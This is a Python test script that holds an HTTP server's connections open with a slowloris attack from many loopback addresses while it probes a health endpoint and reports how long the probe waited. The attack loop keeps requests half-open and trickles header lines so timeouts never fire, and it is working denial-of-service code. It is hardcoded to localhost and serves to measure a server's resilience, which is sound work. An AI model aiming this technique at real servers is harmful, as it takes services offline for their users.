#!/usr/bin/env python3
"""Hold an HTTP server's connections with half-open requests from many source
addresses while a probe asks it something, the way a kubelet or a client
would, and say how long the probe waited.

The attacker opens --per-address connections from each of --addresses
loopback addresses (127.0.0.2 on: the whole of 127/8 is local on Linux), sends
a request line and a header but never the blank line that ends the headers,
then one more header line every --trickle seconds so an idle timeout never
fires (slowloris). A connection the server closes is opened again at once.
Meanwhile the probe connects from 127.0.0.1 every --every seconds and sends a
whole request with a --probe-timeout timeout (the kubelet's timeoutSeconds).

Prints one JSON object: probes made, answered, the longest wait, failures, and
how many attack connections were open at the end and in all. Exits 1 when a
probe was not answered with --expect within the timeout.

  slots_attack.py PORT [--path /healthz] [--method GET] [--body JSON] ...
"""
import argparse
import http.client
import json
import selectors
import socket
import sys
import threading
import time


def attacker_addresses(n):
    # 127.0.0.2 .. 127.0.0.254, then 127.0.1.1 .. : never .0 or .255
    out, i = [], 0
    while len(out) < n:
        b, c = divmod(i, 253)
        out.append(f"127.0.{b}.{c + 2 if b == 0 else c + 1}")
        i += 1
    return out


class Attack:
    def __init__(self, port, addresses, per_address, trickle, path):
        self.port, self.trickle = port, trickle
        self.head = f"GET {path} HTTP/1.1\r\nHost: attacker\r\n".encode()
        self.sel = selectors.DefaultSelector()
        self.slots = [a for a in attacker_addresses(addresses) for _ in range(per_address)]
        self.socks = {}  # slot index -> socket
        self.next_at = {}  # slot index -> when to trickle next
        self.opened = 0
        self.refused = 0
        self.stop = threading.Event()

    def open(self, i):
        s = socket.socket()
        s.setblocking(False)
        try:
            s.bind((self.slots[i], 0))
            s.connect_ex(("127.0.0.1", self.port))
        except OSError:
            s.close()
            self.refused += 1
            return
        self.socks[i] = s
        self.next_at[i] = None  # the request line goes once connected
        self.sel.register(s, selectors.EVENT_READ | selectors.EVENT_WRITE, i)
        self.opened += 1

    def close(self, i):
        s = self.socks.pop(i, None)
        if s:
            self.sel.unregister(s)
            s.close()

    def run(self):
        for i in range(len(self.slots)):
            self.open(i)
        while not self.stop.is_set():
            now = time.monotonic()
            for key, ev in self.sel.select(0.05):
                i, s = key.data, key.fileobj
                if ev & selectors.EVENT_READ:
                    try:
                        data = s.recv(4096)
                    except OSError:
                        data = b""
                    if not data:  # closed by the server: come back at once
                        self.close(i)
                        self.open(i)
                        continue
                if ev & selectors.EVENT_WRITE and self.next_at.get(i) is None:
                    try:
                        s.send(self.head)
                    except OSError:
                        self.close(i)
                        self.open(i)
                        continue
                    self.next_at[i] = now + self.trickle
                    self.sel.modify(s, selectors.EVENT_READ, i)
            for i, at in list(self.next_at.items()):
                if at is not None and at <= now and i in self.socks:
                    try:
                        self.socks[i].send(b"X-Slow: 1\r\n")
                        self.next_at[i] = now + self.trickle
                    except OSError:
                        self.close(i)
                        self.open(i)
        for i in list(self.socks):
            self.close(i)


def probe(port, path, method, body, timeout, expect):
    start = time.monotonic()
    c = http.client.HTTPConnection("127.0.0.1", port, timeout=timeout,
                                   source_address=("127.0.0.1", 0))
    try:
        headers = {"Content-Type": "application/json"} if body is not None else {}
        c.request(method, path, body=body, headers=headers)
        r = c.getresponse()
        r.read()
        ok = r.status == expect
        what = f"status {r.status}"
    except OSError as e:
        ok, what = False, repr(e)
    finally:
        c.close()
    return ok, time.monotonic() - start, what


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("port", type=int)
    ap.add_argument("--path", default="/healthz")
    ap.add_argument("--method", default="GET")
    ap.add_argument("--body")
    ap.add_argument("--expect", type=int, default=200)
    ap.add_argument("--addresses", type=int, default=70)
    ap.add_argument("--per-address", type=int, default=1)
    ap.add_argument("--trickle", type=float, default=1.0)
    ap.add_argument("--settle", type=float, default=2.0,
                    help="seconds of attack before the first probe")
    ap.add_argument("--seconds", type=float, default=8.0, help="seconds of probing")
    ap.add_argument("--every", type=float, default=0.5)
    ap.add_argument("--probe-timeout", type=float, default=3.0)
    a = ap.parse_args()

    att = Attack(a.port, a.addresses, a.per_address, a.trickle, a.path)
    t = threading.Thread(target=att.run, daemon=True)
    t.start()
    time.sleep(a.settle)
    held_before = len(att.socks)
    results = []
    end = time.monotonic() + a.seconds
    while time.monotonic() < end:
        results.append(probe(a.port, a.path, a.method, a.body, a.probe_timeout, a.expect))
        time.sleep(a.every)
    att.stop.set()
    t.join(10)
    failed = [w for ok, _, w in results if not ok]
    out = {
        "probes": len(results),
        "answered": len(results) - len(failed),
        "max_wait_s": round(max(d for _, d, _ in results), 3),
        "failures": failed[:5],
        "attack_connections_open": held_before,
        "attack_connections_made": att.opened,
        "attack_addresses": a.addresses,
        "per_address": a.per_address,
    }
    print(json.dumps(out))
    sys.exit(1 if failed else 0)


if __name__ == "__main__":
    main()
